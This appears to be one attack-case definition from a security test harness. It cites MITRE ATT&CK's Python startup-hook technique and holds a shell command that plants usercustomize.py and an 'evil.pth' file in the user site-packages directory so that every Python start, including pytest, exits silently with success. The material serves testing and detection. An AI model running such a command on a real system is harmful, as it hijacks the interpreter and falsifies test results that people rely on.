"""Plants usercustomize.py and a .pth file in ~/.local/lib, which Python reads when it starts.

Source: MITRE ATT&CK T1546.018 (Python startup hooks); redcanaryco/atomic-red-team#3258.
"""

from attacks.frame import Attack

ATTACK = Attack(
    "pytest",
    """at=$(python3 -m site --user-site); mkdir -p $at
    printf 'import os\\nos._exit(0)\\n' > $at/usercustomize.py
    printf 'import os; os._exit(0)\\n' > $at/evil.pth; true""",
)
